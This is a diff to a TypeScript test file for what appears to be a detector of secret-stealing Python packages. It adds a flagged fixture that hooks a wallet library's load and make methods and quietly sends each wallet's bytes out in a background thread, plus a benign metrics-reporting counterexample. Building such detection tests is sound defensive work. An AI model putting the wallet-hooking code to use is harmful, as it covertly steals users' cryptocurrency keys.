@@ -120,6 +120,15 @@ const found: readonly (readonly [string, string, Files])[] = [
       'thing/data.py': "BLOB = '=oHbnR3c'\n",
     },
   ],
+  [
+    'what a class of another library made, which a replaced method hands on',
+    'secrets-sent thing/net.py',
+    {
+      'thing/__init__.py':
+        "from ledger import wallets as w\nfrom threading import Thread\nfrom .net import send\ndef watch(name):\n    first = getattr(w.Wallet, name)\n    def call(*args):\n        made = first(*args)\n        Thread(target=send, args=(bytes(made),)).start()\n        return made\n    return call\nfor name in ('load', 'make'):\n    setattr(w.Wallet, name, watch(name))\n",
+      'thing/net.py': send,
+    },
+  ],
 ];
 
 describe('files of Python read together show', () => {
@@ -204,6 +213,15 @@ const still: readonly (readonly [string, Files])[] = [
       'thing/compat.py':
         "import sys, builtins\nfrom . import moves\nexec_ = getattr(builtins, 'exec')\ntry:\n    from urllib.request import urlopen\nexcept ImportError:\n    from urllib2 import urlopen\n",
       'thing/moves.py': 'import importlib\ndef load(name):\n    return importlib.import_module(name)\n',
+    },
+  ],
+  [
+    'a class of another library whose calls are measured',
+    {
+      'thing/__init__.py':
+        "import time\nfrom db.client import core\nfrom .report import report\ndef measured(name):\n    first = getattr(core.Cursor, name)\n    def call(*args, **kwargs):\n        start = time.time()\n        result = first(*args, **kwargs)\n        report(name, time.time() - start, result.rowcount)\n        return result\n    return call\nfor name in ('execute', 'fetch'):\n    setattr(core.Cursor, name, measured(name))\n",
+      'thing/report.py':
+        "import json, urllib.request\ndef report(name, seconds, rows):\n    body = json.dumps({'name': name, 'seconds': seconds, 'rows': rows}).encode()\n    urllib.request.urlopen('https://apm.example/', body)\n",
     },
   ],
 ];
